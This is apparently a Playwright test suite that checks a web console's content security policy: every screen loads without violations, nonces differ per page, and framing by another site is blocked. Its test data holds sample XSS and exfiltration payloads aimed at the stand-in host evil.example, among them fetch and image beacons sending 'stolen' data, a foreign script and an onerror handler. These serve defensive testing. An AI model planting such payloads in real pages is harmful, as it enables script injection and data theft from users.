"""The Master's content security policy in a real Chromium: every screen works under it; what is planted is not run."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.async_api import Page, expect

from tests.browser.pretend_master import Served
from tests.browser.running import is_dropped
from tests.waiting import poll_async
from windrow_master.api.headers import NONCE_PLACE

Pretend = Callable[..., Served]
PAGES = Path(__file__).parents[2] / "console" / "src" / "app" / "pages.ts"
NOTE = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (e) =>
  window.violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`));
"""
IDS = {"$hostId": "host_1", "$clusterId": "cluster_1", "$receiptId": "receipt_1", "$commandId": "command_1"}


def _screens() -> list[str]:
    """Every path of the console's pages, with ids in place of parameters."""
    paths = re.findall(r'path: "([^"]+)"', PAGES.read_text())
    return ["/".join(IDS.get(part, part) for part in path.split("/")) for path in paths]


async def _violations(page: Page) -> list[str]:
    found: list[str] = await page.evaluate("window.violations")
    return found


async def _signed_in(page: Page, served: Served) -> None:
    await page.add_init_script(NOTE)
    await page.goto(served.sign_in_url)
    await expect(page.get_by_role("heading", level=1).first).to_be_visible()


@pytest.mark.parametrize("each", [3, pytest.param(1, marks=pytest.mark.long)], ids=["every third", "all"])
async def test_no_screen_breaks_the_policy_asks_another_host_or_lacks_its_style(
    page: Page, pretend: Pretend, each: int
) -> None:
    """The others are opened under the policy by the tests of each, whose `page` may not break it."""
    served = pretend(neighbours=5)
    host = next(iter(served.world.hosts))
    errors: list[str] = []
    asked: set[str] = set()
    page.on("pageerror", lambda error: None if is_dropped(error) else errors.append(str(error)))
    page.on("request", lambda request: asked.add("/".join(request.url.split("/")[:3])))
    await _signed_in(page, served)
    seen: dict[str, list[str]] = {}

    for path in [*_screens()[::each], f"/hosts/{host}", "/nowhere"]:
        await page.goto(served.url + path)
        await expect(page.get_by_role("main")).to_be_visible()
        await expect(page.get_by_test_id("waiting")).to_have_count(0)
        # The theme is a style element with the nonce: without it the library's colours are not there.
        assert (
            await page.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--mantine-scale')") == "1"
        )
        seen[path] = await _violations(page)

    assert len(seen) > 10
    assert {path: found for path, found in seen.items() if found} == {}
    assert errors == []
    assert asked == {served.url}


@pytest.mark.parametrize(
    ("planted", "directive"),
    [
        (
            "const s = document.createElement('style'); s.textContent = 'body{display:none}'; document.head.append(s)",
            "style-src",
        ),
        (
            "const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.head.append(s)",
            "script-src",
        ),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned = 1\">')", "script-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<p style=\"position:fixed\">')", "style-src"),
        (
            "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s)",
            "script-src",
        ),
        ("fetch('https://evil.example/?stolen').catch(() => 0)", "connect-src"),
        ("new Image().src = 'https://evil.example/?stolen'", "img-src"),
        (
            "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
            "frame-src",
        ),
        (
            "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
            "base-uri",
        ),
    ],
    ids=["style", "script", "handler", "attribute", "foreign-script", "fetch", "image", "frame", "base"],
)
async def test_what_an_attacker_plants_is_blocked_and_seen_by_the_detector(
    page: Page, pretend: Pretend, planted: str, directive: str
) -> None:
    served = pretend()
    await _signed_in(page, served)

    await page.evaluate(f"() => {{ {planted} }}")

    # Asked from here: a wait inside the page would need eval, which the policy forbids.
    async def is_noted() -> bool:
        return any(found.startswith(directive) for found in await _violations(page))

    await poll_async(is_noted, what=f"a violation of {directive}")
    assert await page.evaluate("window.pwned") is None


async def test_the_console_cannot_be_framed_by_another_site(page: Page, pretend: Pretend) -> None:
    served, other = pretend(), pretend()
    await page.route(
        f"{other.url}/outer",
        lambda route: route.fulfill(content_type="text/html", body=f'<iframe id="f" src="{served.url}/"></iframe>'),
    )

    await page.goto(f"{other.url}/outer")
    await page.wait_for_load_state("networkidle")

    assert len(page.frames) == 2
    assert not await page.frames[-1].evaluate("!!document.getElementById('root')")


async def test_each_page_has_a_nonce_of_its_own(page: Page, pretend: Pretend) -> None:
    served = pretend()
    policies, bodies = [], []
    for _ in range(2):
        answer = await page.request.get(served.url + "/")
        policies.append(answer.headers["content-security-policy"])
        bodies.append(await answer.text())

    nonces = [re.findall("'nonce-([0-9a-f]{32})'", policy) for policy in policies]
    assert nonces[0] != nonces[1]
    assert NONCE_PLACE not in bodies[0] and nonces[0][0] in bodies[0]
